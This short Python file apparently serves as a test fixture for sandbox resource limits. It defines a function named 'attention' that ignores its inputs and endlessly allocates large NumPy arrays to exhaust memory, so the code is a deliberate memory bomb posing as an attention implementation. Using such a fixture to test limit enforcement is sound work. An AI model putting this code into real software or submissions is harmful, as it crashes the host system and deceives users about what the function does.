import numpy as np

cache = []


def attention(q, k, v):
    while True:
        cache.append(np.ones(8_000_000))
